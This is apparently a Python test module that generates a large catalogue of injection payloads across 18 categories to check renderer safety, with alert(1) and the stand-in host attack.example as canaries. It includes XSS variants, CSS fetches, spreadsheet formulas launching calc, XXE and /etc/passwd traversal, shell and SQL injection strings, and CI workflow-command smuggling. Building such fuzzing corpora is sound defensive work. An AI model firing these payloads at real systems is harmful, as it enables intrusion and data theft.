"""What means harm wherever a text may stand: payloads of every kind, each made of a few parts, none of a list of others.

What would run calls `alert`, what would be fetched is at HOST, so that a browser that is watched tells of both.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator
from dataclasses import dataclass
from itertools import product

HOST = "attack.example"
RUN = "alert(1)"
_FETCH = f"//{HOST}/x"
_SCRIPT = f"<script>{RUN}</script>"
_IMAGE = f"<img src=x onerror={RUN}>"


@dataclass(frozen=True, slots=True)
class Payload:
    """A text that means harm, and its kind."""

    kind: str
    text: str


# A line is a family of payloads, and reads like a table
# fmt: off
_EVENTS = ("load", "error", "click", "mouseover", "focus", "toggle", "pointerenter", "animationend", "beforetoggle")
_HANDLERS = tuple(f"on{event}={RUN}" for event in _EVENTS)
_SCHEMES = (
    *(f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f"javascript:/**/{RUN}//https://x", f"java&Tab;script:{RUN}"),
    *(f"javascript&colon;{RUN}", f"javascript%3A{RUN}", f"\\x6aavascript:{RUN}", f"vbscript:{RUN}", "blob:null/1"),
    *(f"data:text/html,{_SCRIPT}", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg/>"),
    *("file:///etc/passwd", _FETCH, f"\\\\{HOST}\\x", f"/\\{HOST}", f"https:{HOST}", f"https://a@{HOST}"),
)


def _html() -> Iterator[str]:
    fetching = ("img", "iframe", "embed", "video", "audio", "input type=image", "script", "track", "source", "frame")
    yield from (f"<{tag} src={_FETCH}>" for tag in fetching)
    yield from (f"<{tag} {handler}>" for tag, handler in zip(("body", "select", "video", "a", "b"), _HANDLERS, strict=False))
    yield from (f"<{tag}>{_SCRIPT}" for tag in ("xmp", "plaintext", "textarea", "title", "noscript", "template", "frameset"))
    yield from (f"<{tag}>{_IMAGE}</{tag}>" for tag in ("noembed", "noframes", "table", "select", "style", "option"))
    yield from (f"<link rel={rel} href={_FETCH}>" for rel in ("stylesheet", "preload as=image", "prefetch", "icon", "import"))
    yield from (f"<meta http-equiv={name}>" for name in (f"refresh content='0;url={_FETCH}'", "set-cookie content=a=b"))
    yield from (f"<base href={_FETCH}>", f"<object data={_FETCH}>", f"<form action={_FETCH}><button>x</button></form>")
    yield from (f"<iframe srcdoc='{_SCRIPT}'>", f"<details open ontoggle={RUN}>", f"<dialog open {_HANDLERS[0]}>")
    yield from (f"<ScRiPt>{RUN}</sCrIpT>", f"<script/x>{RUN}</script/x>", f"<script\n>{RUN}</script\n>", f"<<script>{RUN}//<</script>")
    yield from (f"<script type=module>{RUN}</script>", f"<script>{RUN}", f"<x-y {_HANDLERS[4]} tabindex=0 autofocus>", "<!doctype x>")


def _breakouts() -> Iterator[str]:
    ends = ('"', "'", "`", '">', "'>", "-->", "--!>", "]]>", "?>", "\\", "/>", "\\x3e", "&quot;>")
    elements = ("title", "textarea", "script", "style", "noscript", "template", "svg", "math", "a", "table", "iframe")
    for end in (*ends, *(f"</{element}>" for element in elements)):
        yield from (f"{end}{_SCRIPT}", f"{end}{_IMAGE}", f"{end} {_HANDLERS[4]} autofocus tabindex=0 x={end}")


def _attributes() -> Iterator[str]:
    for handler, quote in product(_HANDLERS, ('"', "'", "", "` ")):
        yield f"x{quote} {handler} {quote}"
    yield from (f'" {name}="{RUN}' for name in ("style", "srcdoc", "formaction", "href", "action", "is", "nonce", "ping"))


def _svg() -> Iterator[str]:
    yield from (f"<svg {handler}>" for handler in _HANDLERS[:3])
    yield from (f"<svg><{tag} href={_FETCH}#a /></svg>" for tag in ("use", "image", "feImage", "a", "linearGradient"))
    yield from (f"<svg><a xlink:href=javascript:{RUN}><text>x</text></a></svg>", f"<svg><script>{RUN}</script></svg>")
    yield from (f"<svg><{tag} attributeName=href values=javascript:{RUN} {_HANDLERS[0]} /></svg>" for tag in ("set", "animate"))
    yield from (f"<svg><{tag}>{_IMAGE}</{tag}></svg>" for tag in ("foreignObject", "desc", "title", "style", "script"))


def _mathml() -> Iterator[str]:
    yield from (f"<math><{tag} href=javascript:{RUN}>x</{tag}></math>" for tag in ("mi", "mtext", "maction", "semantics"))
    yield f"<math><annotation-xml encoding=text/html>{_IMAGE}</annotation-xml></math>"
    yield f"<math><mtext><table><mglyph><style><!--</style>{_IMAGE}"
    yield f"<math><mi xlink:href={_FETCH} {_HANDLERS[2]}>x</mi></math>"


def _schemes() -> Iterator[str]:
    yield from _SCHEMES
    for before, after in (("[x](", ")"), ("![x](", ")"), ("<", ">"), ("[x](<", '> "t")'), ("[x]\n\n[x]: ", ""), ("<a href='", "'>x</a>")):
        yield from (f"{before}{scheme}{after}" for scheme in _SCHEMES)


def _markdown() -> Iterator[str]:
    yield from (f"[x](https://example.org/{end}{_HANDLERS[3]})" for end in ('"', "'", "<", "`", "%22", "&quot;"))
    yield from (f"[x](https://example.org/ {quoted})" for quoted in ('"\\"onclick=alert(1)"', "'\" onclick=alert(1)'", '(")'))
    yield from (f"{fence}html\n{_SCRIPT}\n{fence}" for fence in ("```", "~~~", "````"))
    yield from (f"[^{label}]\n\n[^{label}]: {_IMAGE}" for label in ('"><b>', "__proto__", "x' y", "../x", "constructor", "1"))
    yield from (f"{sign}{_SCRIPT}{sign}" for sign in ("*", "**", "_", "`", "~~", "||", "==", "^", ":"))
    yield from (f"{start}{_SCRIPT}" for start in ("# ", "> ", "- ", "1. ", "    ", "\\", "| a |\n| - |\n| ", "***\n", "&#96;"))
    yield from (f"<{_SCRIPT}>", f"<!-- {_SCRIPT} -->", f"<?php {RUN}?>", f"<![CDATA[{_SCRIPT}]]>", f"[{_SCRIPT}][x]", "[x]: <>")


def _entities() -> Iterator[str]:
    ways: tuple[Callable[[int], str], ...] = (*("&#{};".format, "&#x{:x};".format, "&#{:07}".format, "&#X{:04X};".format, "&amp;#{};".format, "%{:02x}".format), *("\\u{:04x}".format, "\\x{:02x}".format, "%25{:02x}".format, "\\{:o}".format, "+AD{:x}-".format, "&#x{:x}".format))
    for way, text in product(ways, (_SCRIPT, '"onfocus=alert(1) ')):
        yield "".join(char if char.isalnum() else way(ord(char)) for char in text)
    yield from (f"&lt;script&gt;{RUN}&lt;/script&gt;", f"&LT;script&GT;{RUN}", "&NewLine;&Tab;&lpar;", "&zwj;&shy;&nbsp;", "&#0;&#xd800;&#1114112;")


def _clobbering() -> Iterator[str]:
    names = ("__config", "document", "location", "body", "content", "cookie", "forms", "getElementById", "attributes")
    yield from (f"<{tag} id={name} name={name}>" for tag, name in zip(("a", "form", "img", "input", "iframe") * 2, names, strict=False))
    # Words that mean something to every object of JavaScript
    yield from ("__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "valueOf", "__defineGetter__", "then", "null")
    yield from ("undefined", "NaN", "length", "[object Object]", "false", "0", "-0", "1e999", "true", "default", "Infinity")


def _css() -> Iterator[str]:
    yield from (f"<style>{rule}</style>" for rule in (f"@import '{_FETCH}'", f"*{{background:url({_FETCH})}}", "*{display:none}"))
    yield from (f"{end}{{}}*{{background:url({_FETCH})}}" for end in ("", ";", "}", "*/", "\\", "\n", "')", '"'))
    yield from (f'" style="{rule}' for rule in (f"background:url({_FETCH})", "position:fixed;inset:0", "animation:x;animation-name:x"))
    yield from (f"#000000;background:url({_FETCH})", "var(--x)", f"expression({RUN})", f"url(javascript:{RUN})", "#fff}body{display:none")


def _letters() -> Iterator[str]:
    hidden = (
        *(0x202E, 0x202A, 0x2066, 0x2067, 0x2069, 0x200E, 0x061C, 0x200B, 0x200C, 0x200D, 0x2060, 0xFEFF, 0x00AD, 0x034F),
        *(0x115F, 0x3164, 0x2800, 0xFE0F, 0xE0041, 0x180E, 0x2028, 0x2029, 0x0085, 0x00A0, 0x3000, 0xFFF9, 0x1D173),
    )
    yield from (f"Ada{chr(code)}SAMPLE" for code in hidden)
    yield from (f"{chr(code)}exe.txt" for code in hidden[:6])
    yield from ("\u0410da S\u0410MPLE", "Ad\u0430 SAMPLE", "\uff21da SAMPLE", "Ada SAMPL\u0395", "\U0001d400da", "Z\u0335\u0336\u0337\u0338algo")
    yield from ("\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "\u2039script\u203a", "\uff02onfocus=alert(1)", "\u02bd\u02ee", "\ufe64img\ufe65")


def _formulas() -> Iterator[str]:
    for sign, rest in product(("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20", "'=", '"='), ("1+1", "cmd|' /C calc'!A0", f'HYPERLINK("https:{_FETCH}")')):
        yield f"{sign}{rest}"
    yield from (f"{start}=WEBSERVICE(A1)" for start in ("a;", "\ta", " ", "\u00a0", "a,", 'a","', "a\r", ";;", "%0A", "\u2028"))


def _xml() -> Iterator[str]:
    yield from ("<![CDATA[", "]]>", "<?xml version='1.0'?>", f"<!DOCTYPE x [<!ENTITY y SYSTEM 'https:{_FETCH}'>]>&y;", "&undefined;", "--", "<!--")
    yield from ("</title></entry></feed>", "</p></body></akomaNtoso>", "<x xmlns:y='z'/>", "<xi:include href='/etc/passwd'/>", "\ufffe", "&#x1b;")


def _json() -> Iterator[str]:
    yield from ('"}]', '","@id":"x', '\\"', "\\", "\\u0022", "\u2028\u2029", '"],"x":["', "*/alert(1)/*", f"');{RUN}//", f"${{{RUN}}}", f"`+{RUN}+`")
    yield from (f"\\u003cscript>{RUN}", f'"}}</script>{_SCRIPT}', f"<!--<script>{RUN}</script>-->")


def _templates() -> Iterator[str]:
    yield from ("{{ config }}", "{{ 7*7 }}", "{% include '/etc/passwd' %}", "{# x #}", "<!--pour:content-->", "<!--pour:title-->", "<%= 7*7 %>")
    yield from ("#{7*7}", "{0}", "{x!r}", "%s%n", "$x", "\\1", "repository:/../..", "assets:/../..", "[TOC]", "{: onclick=alert(1) }", "%(x)s")


def _commands() -> Iterator[str]:
    names = ("error", "warning", "set-output name=x", "add-mask", "stop-commands", "save-state name=x", "debug", "group")
    yield from (f"::{name}::y" for name in names)
    yield from (f"x ##[{name}]y" for name in (*names, "set-env", "endgroup"))
    yield from (f"x{end}::error::y" for end in ("\n", "\r", "%0A", "%0D", "\u2028", "\x0b", "\x85", "\n  "))
    escapes = ("[31m", "[2J", "]0;title\x07", "]8;;https://x\x07y", "P+q544e\x1b\\", "[6n", "c", "[?1049h")
    yield from (f"x\x1b{escape}y" for escape in escapes)
    yield from ("x\x9b31my", "x\x00y", "x\x08\x08y", "x\x7fy", "\x1b", "$(touch x)", "`touch x`", "; touch x", "| touch x", "--help", "-x")
    yield from ("@somebody", "closes #1", "fixes example/example#1", "GH-1", "@example/team", "https://github.com/x/y/issues/1", "x\n---\nnumber: 1")


def _paths() -> Iterator[str]:
    steps = ("../", "..\\", "%2e%2e%2f", "..%2f", "....//", "/", "file:///", "C:\\", "~/", "\\\\host\\", "..;/", "\uff0e\uff0e/", "./", "//")
    yield from (f"{step}etc/passwd" for step in steps)
    yield from ("..", ".", "638/../1", "638\x00.md", "638.md/", "CON", "nul.md", ".git", ".htaccess", "index.html", "?x", "#x", "a" * 200, "638 ", "*", "\u0131ndex")


def _files() -> Iterator[str]:
    """What ends a field of the other forms: BibTeX, RIS, SQL, the text of a declaration."""
    yield from ("}}, title={x}", "\\input{/etc/passwd}", "\\write18{x}", "@article{x,", "%\\end", '{\\"x', "ER  - ", "\nER  - \nTY  - JOUR")
    yield from ("'); DROP TABLE declarations; --", "' OR '1'='1", '" OR ""="', "\\'; --", "X' UNION SELECT 1--", "*)(uid=*", "x\ty\tz", "---", "...", "!!python/name:os", "&a *a", "<<: *x")


# fmt: on


_KINDS: dict[str, Callable[[], Iterator[str]]] = {
    "html": _html,
    "breakouts": _breakouts,
    "attributes": _attributes,
    "svg": _svg,
    "mathml": _mathml,
    "schemes": _schemes,
    "markdown": _markdown,
    "entities": _entities,
    "clobbering": _clobbering,
    "css": _css,
    "letters": _letters,
    "formulas": _formulas,
    "xml": _xml,
    "json": _json,
    "templates": _templates,
    "commands": _commands,
    "paths": _paths,
    "files": _files,
}
KINDS = tuple(_KINDS)
PAYLOADS = tuple({text: Payload(kind, text) for kind, make in _KINDS.items() for text in make()}.values())
